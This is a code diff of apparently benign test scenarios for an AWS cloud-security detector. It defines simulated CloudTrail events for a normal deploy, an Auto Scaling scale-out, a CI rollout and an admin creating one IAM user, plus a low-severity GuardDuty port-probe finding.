-        Step("GuardDuty low-severity port probe", "-",
-             [guardduty_finding(c, "Recon:EC2/PortProbeUnprotectedPort", 2.0, tokyo, "Unprotected port probed")]),
-    ])
+    deploy = Scenario(
+        "deploy_in_allowed_region",
+        "A service deploy in Tokyo",
+        "-",
+        False,
+        [
+            Step(
+                "RunInstances 2 x m5.large",
+                "-",
+                [
+                    _run_instances(
+                        c, tokyo, p, 2, "m5.large", BENIGN_USER_DATA, ip="140.82.112.3", agent="aws-cli/2.17.0"
+                    )
+                ],
+            ),
+            Step(
+                "CreateLaunchTemplate + ASG max 10",
+                "-",
+                [
+                    ct(
+                        "CreateLaunchTemplate",
+                        "ec2",
+                        {
+                            "CreateLaunchTemplateRequest": {
+                                "LaunchTemplateName": "web",
+                                "LaunchTemplateData": {"InstanceType": "m5.large", "UserData": b64(BENIGN_USER_DATA)},
+                            }
+                        },
+                    ),
+                    ct(
+                        "CreateAutoScalingGroup",
+                        "autoscaling",
+                        {"autoScalingGroupName": "web", "minSize": 2, "maxSize": 10, "desiredCapacity": 2},
+                    ),
+                ],
+            ),
+            Step(
+                "ECS task 1 vCPU from ECR + service of 3",
+                "-",
+                [
+                    ct(
+                        "RegisterTaskDefinition",
+                        "ecs",
+                        {
+                            "family": "api",
+                            "cpu": "1024",
+                            "memory": "2048",
+                            "containerDefinitions": [
+                                {"name": "api", "image": f"{ACCOUNT}.dkr.ecr.ap-northeast-1.amazonaws.com/api:1.4.2"}
+                            ],
+                        },
+                    ),
+                    ct("CreateService", "ecs", {"serviceName": "api", "cluster": "prod", "desiredCount": 3}),
+                ],
+            ),
+            Step(
+                "Lambda URL with AWS_IAM + S3 permission",
+                "-",
+                [
+                    ct("CreateFunctionUrlConfig20211031", "lambda", {"functionName": "hook", "authType": "AWS_IAM"}),
+                    ct(
+                        "AddPermission20150331v2",
+                        "lambda",
+                        {
+                            "functionName": "hook",
+                            "principal": "s3.amazonaws.com",
+                            "action": "lambda:InvokeFunction",
+                            "statementId": "s3",
+                        },
+                    ),
+                ],
+            ),
+        ],
+    )
+    scale_out = Scenario(
+        "autoscaling_scale_out",
+        "Auto Scaling adds instances for a service",
+        "-",
+        False,
+        [
+            Step(
+                "RunInstances x4 by Auto Scaling (5 calls)",
+                "-",
+                [_run_instances(c, tokyo, AUTOSCALING_ROLE, 4, "m5.large") for _ in range(5)],
+            ),
+        ],
+    )
+    pipeline = Scenario(
+        "ci_pipeline",
+        "CI pipeline rolling out new task definitions",
+        "-",
+        False,
+        [
+            Step(
+                "RegisterTaskDefinition x3 + UpdateService desired 4",
+                "-",
+                [
+                    ct(
+                        "RegisterTaskDefinition",
+                        "ecs",
+                        {
+                            "family": "worker",
+                            "cpu": "2048",
+                            "memory": "4096",
+                            "containerDefinitions": [
+                                {"name": "w", "image": "public.ecr.aws/docker/library/python:3.13"}
+                            ],
+                        },
+                    )
+                    for _ in range(3)
+                ]
+                + [ct("UpdateService", "ecs", {"service": "worker", "desiredCount": 4})],
+            ),
+            Step(
+                "CreateVolume x2 for a build cache",
+                "-",
+                [ct("CreateVolume", "ec2", {"size": 50, "availabilityZone": "ap-northeast-1a"}) for _ in range(2)],
+            ),
+        ],
+    )
+    admin = Scenario(
+        "admin_creates_user",
+        "An administrator creates one console user",
+        "-",
+        False,
+        [
+            Step(
+                "CreateUser, CreateLoginProfile, AddUserToGroup",
+                "-",
+                [
+                    ct("CreateUser", "iam", {"userName": "hanako"}, identity=ADMIN_ROLE, region="us-east-1"),
+                    ct(
+                        "CreateLoginProfile",
+                        "iam",
+                        {"userName": "hanako", "passwordResetRequired": True},
+                        identity=ADMIN_ROLE,
+                        region="us-east-1",
+                    ),
+                    ct(
+                        "AddUserToGroup",
+                        "iam",
+                        {"userName": "hanako", "groupName": "developers"},
+                        identity=ADMIN_ROLE,
+                        region="us-east-1",
+                    ),
+                ],
+            ),
+            Step(
+                "GuardDuty low-severity port probe",
+                "-",
+                [guardduty_finding(c, "Recon:EC2/PortProbeUnprotectedPort", 2.0, tokyo, "Unprotected port probed")],
+            ),
+        ],
+    )
     return [deploy, scale_out, pipeline, admin]
 
 
